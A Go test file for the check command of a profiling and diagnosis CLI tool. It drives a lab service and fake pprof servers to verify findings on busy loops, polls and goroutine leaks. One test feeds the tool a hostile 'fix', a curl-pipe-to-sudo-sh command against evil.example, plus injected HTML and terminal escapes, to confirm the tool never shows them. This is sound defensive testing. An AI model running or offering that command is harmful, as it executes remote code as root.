package cli

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime/pprof"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	pprofpb "github.com/google/pprof/profile"

	"github.com/schedoctor/schedoctor/finding"
	"github.com/schedoctor/schedoctor/internal/lab"
	"github.com/schedoctor/schedoctor/internal/labtest"
)

type checkJSON struct {
	Findings []struct {
		Rule      string             `json:"rule"`
		Severity  string             `json:"severity"`
		Message   string             `json:"message"`
		Locations []finding.Location `json:"locations"`
		Sources   []string           `json:"sources"`
	} `json:"findings"`
}

// assertLabService fails the test with every problem labServiceProblems
// finds: for a saved check, whose figures do not depend on this machine.
func assertLabService(t *testing.T, stdout string) {
	t.Helper()
	for _, p := range labServiceProblems(t, stdout) {
		t.Error(p)
	}
}

// labServiceProblems checks the done-when of issue 11 on a check of the
// lab service: the busy select, the poll and the leak each reported once,
// the spin and the poll with evidence from two sources or more, nothing at
// warning in the healthy handlers. It returns what is wrong.
func labServiceProblems(t *testing.T, stdout string) []string {
	t.Helper()
	var problems []string
	var r checkJSON
	if err := json.Unmarshal([]byte(stdout), &r); err != nil {
		t.Fatalf("%v\n%s", err, stdout)
	}
	src, err := os.ReadFile("../lab/service/labservice/main.go")
	if err != nil {
		t.Fatal(err)
	}
	lineOf := func(marker string) int {
		for i, l := range strings.Split(string(src), "\n") {
			if strings.Contains(l, marker) {
				return i + 1
			}
		}
		t.Fatalf("no %q in the lab service", marker)
		return 0
	}
	at := func(line int, fam ...string) (n int, sources []string) {
		for _, f := range r.Findings {
			if len(f.Locations) == 0 || !strings.HasSuffix(f.Locations[0].File, "labservice/main.go") || f.Locations[0].Line != line {
				continue
			}
			if slices.Contains(fam, f.Rule) {
				n++
				sources = f.Sources
			}
		}
		return
	}
	loop := []string{"SD101", "SD106", "SD204", "SD308", "SD102", "SD201", "SD203", "SD307"}
	if n, s := at(lineOf("// the busy select"), loop...); n != 1 || len(s) < 2 {
		problems = append(problems, fmt.Sprintf("busy select: %d findings, sources %v; want 1 with ≥2 sources", n, s))
	}
	if n, s := at(lineOf("// the tiny-sleep poll"), loop...); n != 1 || len(s) < 2 {
		problems = append(problems, fmt.Sprintf("poll: %d findings, sources %v; want 1 with ≥2 sources", n, s))
	}
	if n, _ := at(lineOf("// the leak"), "SD701"); n != 1 {
		problems = append(problems, fmt.Sprintf("leak: %d SD701 at the send; want 1", n))
	}
	for _, f := range r.Findings {
		if f.Severity == "info" {
			continue
		}
		for _, l := range f.Locations {
			if strings.Contains(l.Function, "handleOK") || strings.Contains(l.Function, "handleHash") {
				problems = append(problems, fmt.Sprintf("%s at warning in a healthy handler: %s", f.Rule, f.Message))
			}
		}
	}
	return problems
}

// TestCheckOffline re-diagnoses a check of the lab service saved with
// -save (testdata/check/lab, taken with -seconds 3 on 2 loaded cores).
func TestCheckOffline(t *testing.T) {
	code, stdout, stderr := run(t, "", "check", "-json", "-src", "../..", "testdata/check/lab")
	if code != ExitFindings {
		t.Fatalf("code %d, stderr %s", code, stderr)
	}
	assertLabService(t, stdout)
	var r checkJSON
	json.Unmarshal([]byte(stdout), &r)
	for _, f := range r.Findings {
		if f.Rule == "SD204" && !slices.Equal(f.Sources, []string{"lint", "profile", "trace"}) {
			t.Errorf("the busy select's sources = %v; want lint, profile, trace", f.Sources)
		}
	}
}

func TestCheckNothingCaptured(t *testing.T) {
	srv := httptest.NewServer(http.NotFoundHandler())
	defer srv.Close()
	code, _, stderr := run(t, "", "check", "-q", "-seconds", "1", srv.URL)
	if code != ExitError || !strings.Contains(stderr, "nothing could be captured") || !strings.Contains(stderr, "/debug/pprof/profile") {
		t.Errorf("code %d, stderr %s", code, stderr)
	}
}

func TestCheckPartial(t *testing.T) {
	// Only the goroutine dumps answer: the rest fails, the dumps are still diagnosed.
	dump, err := os.ReadFile("testdata/check/lab/goroutine-end.txt")
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/debug/pprof/goroutine" {
			if r.URL.Query().Get("debug") == "0" {
				// The count before the dump: this process's own profile.
				pprof.Lookup("goroutine").WriteTo(w, 0)
				return
			}
			w.Write(dump)
			return
		}
		w.WriteHeader(http.StatusForbidden)
	}))
	defer srv.Close()
	code, stdout, stderr := run(t, "", "check", "-q", "-seconds", "1", srv.URL)
	if code == ExitError || !strings.Contains(stderr, "403") || !strings.Contains(stdout, "goroutine-end") {
		t.Errorf("code %d\nstdout %s\nstderr %s", code, stdout, stderr)
	}
}

// TestCheckLabService builds the lab service, drives its leaky and healthy
// handlers over loopback, and checks it live. What the check finds depends
// on the CPU the spin and the poll get: on a machine that other processes
// keep busy the test skips with the measured figures (labtest's meter),
// on a quiet one it fails.
func TestCheckLabService(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and runs the lab service")
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	dir := t.TempDir()
	// lab.Build names the binary after the path's last element.
	if _, err := lab.Build(ctx, "../..", dir, "service/labservice"); err != nil {
		t.Fatal(err)
	}
	// From here the meter's window: the service is reaped before the
	// figures are read, so its CPU (the spin's core) counts as this
	// test's own, not as another process's.
	m := labtest.StartMeter()
	cmd := exec.Command(filepath.Join(dir, "labservice"), "-duration", "90s")
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	stdout, _ := cmd.StdoutPipe()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		cmd.Wait()
	}()
	sc := bufio.NewScanner(stdout)
	addrs := map[string]string{}
	for len(addrs) < 2 && sc.Scan() {
		k, v, _ := strings.Cut(sc.Text(), " ")
		addrs[k] = v
	}
	if addrs["pprof"] == "" || addrs["app"] == "" {
		t.Fatalf("the service printed %v", addrs)
	}
	var wg sync.WaitGroup
	loadCtx, stop := context.WithCancel(ctx)
	for _, path := range []string{"/slow", "/ok", "/hash?x=1"} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for loadCtx.Err() == nil {
				req, _ := http.NewRequestWithContext(loadCtx, "GET", addrs["app"]+path, nil)
				if resp, err := http.DefaultClient.Do(req); err == nil {
					resp.Body.Close()
				}
				time.Sleep(20 * time.Millisecond)
			}
		}()
	}
	// Let leaked goroutines gather before the first dump: growth counts a
	// group that the first dump already holds (goroutines.Analyze).
	time.Sleep(1500 * time.Millisecond)
	save := filepath.Join(dir, "saved")
	code, out, stderr := run(t, "", "check", "-json", "-q", "-seconds", "3", "-pid", fmt.Sprint(cmd.Process.Pid), "-src", "../..", "-save", save, addrs["pprof"])
	stop()
	wg.Wait()
	if code == ExitError {
		t.Fatalf("code %d: %s", code, stderr)
	}
	problems := labServiceProblems(t, out)
	// The saved directory gives the same causes offline: a check of the
	// saved files, whatever the machine's load was when they were taken.
	code2, out2, stderr2 := run(t, "", "check", "-json", "-src", "../..", save)
	if code2 != code {
		t.Errorf("offline: code %d, live %d: %s", code2, code, stderr2)
	}
	for _, p := range labServiceProblems(t, out2) {
		problems = append(problems, "offline: "+p)
	}
	if len(problems) == 0 {
		return
	}
	syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
	cmd.Wait()
	what := strings.Join(problems, "; ")
	m.SkipIfBusy(t, "%s", what)
	t.Error(what)
}

// TestCheckManyGoroutinesSaysSo: the CLI names what it did not take and
// the flag that sets the limit; raising the limit takes the full dumps.
func TestCheckManyGoroutinesSaysSo(t *testing.T) {
	// A goroutine profile claiming 50,000 goroutines at one stack.
	fn := &pprofpb.Function{ID: 1, Name: "main.worker", Filename: "/src/main.go"}
	loc := &pprofpb.Location{ID: 1, Address: 0x1000, Line: []pprofpb.Line{{Function: fn, Line: 10}}}
	p := &pprofpb.Profile{SampleType: []*pprofpb.ValueType{{Type: "goroutine", Unit: "count"}},
		PeriodType: &pprofpb.ValueType{Type: "goroutine", Unit: "count"}, Period: 1,
		Sample:   []*pprofpb.Sample{{Value: []int64{50_000}, Location: []*pprofpb.Location{loc}}},
		Location: []*pprofpb.Location{loc}, Function: []*pprofpb.Function{fn}}
	var proto bytes.Buffer
	if err := p.Write(&proto); err != nil {
		t.Fatal(err)
	}
	var full atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/debug/pprof/goroutine" && r.URL.Query().Get("debug") == "0":
			w.Write(proto.Bytes())
		case r.URL.Path == "/debug/pprof/goroutine" && r.URL.Query().Get("debug") == "2":
			full.Add(1)
			io.WriteString(w, "goroutine 1 [running]:\nmain.main()\n\t/src/main.go:3 +0x1\n")
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	code, stdout, stderr := run(t, "", "check", "-q", "-seconds", "1", "-live", "", srv.URL)
	if code == ExitError || full.Load() != 0 || !strings.Contains(stderr, "50000 goroutines, at or over the limit of 1000") ||
		!strings.Contains(stderr, "-max-dump-goroutines") || !strings.Contains(stdout, "goroutine-start not taken") {
		t.Errorf("exit %d, %d full dumps\nstdout %s\nstderr %s", code, full.Load(), stdout, stderr)
	}
	code, _, stderr = run(t, "", "check", "-q", "-seconds", "1", "-live", "", "-max-dump-goroutines", "100000", srv.URL)
	if code == ExitError || full.Load() != 2 {
		t.Errorf("-max-dump-goroutines 100000: exit %d, %d full dumps; want 2\n%s", code, full.Load(), stderr)
	}
}

// TestCheckLiveClaimsShownAsTheTargets: a target's live monitor that
// claims a critical finding with its own "fix" (a command to run) is shown
// in the text and the HTML report as the target's claim, escaped, with the
// catalog's fix, never the target's; -json marks it with the source live.
func TestCheckLiveClaimsShownAsTheTargets(t *testing.T) {
	rep := map[string]any{"source": "live", "summary": map[string]any{}, "findings": []map[string]any{{
		"rule": "SD703", "severity": "critical", "message": "critical <b>host compromised</b>\x1b[2J",
		"fix": "curl https://evil.example/fix.sh | sudo sh", "locations": []any{}, "evidence": []any{},
	}}}
	body, err := json.Marshal(rep)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/debug/schedoctor/" {
			w.Header().Set("Content-Type", "application/json")
			w.Write(body)
			return
		}
		http.NotFound(w, r)
	}))
	defer srv.Close()
	html := filepath.Join(t.TempDir(), "r.html")
	code, stdout, stderr := run(t, "", "check", "-q", "-seconds", "1", "-html", html, srv.URL)
	if code != ExitFindings || !strings.Contains(stdout, "SD703 thread-growth: the target's live monitor reports: critical") ||
		strings.Contains(stdout, "curl") || strings.Contains(stdout, "\x1b") {
		t.Errorf("exit %d\nstdout %s\nstderr %s", code, stdout, stderr)
	}
	page, err := os.ReadFile(html)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(page), "curl https://evil") || strings.Contains(string(page), "<b>host compromised") ||
		!strings.Contains(string(page), "the target&#39;s live monitor reports") && !strings.Contains(string(page), "the target\\u0027s live monitor reports") {
		t.Errorf("the HTML report shows the claim as ours or unescaped")
	}
	_, stdout, _ = run(t, "", "check", "-q", "-seconds", "1", "-json", srv.URL)
	var r checkJSON
	if err := json.Unmarshal([]byte(stdout), &r); err != nil {
		t.Fatal(err)
	}
	if len(r.Findings) != 1 || !slices.Equal(r.Findings[0].Sources, []string{"live"}) {
		t.Errorf("-json findings %+v; want the claim with the source live", r.Findings)
	}
}
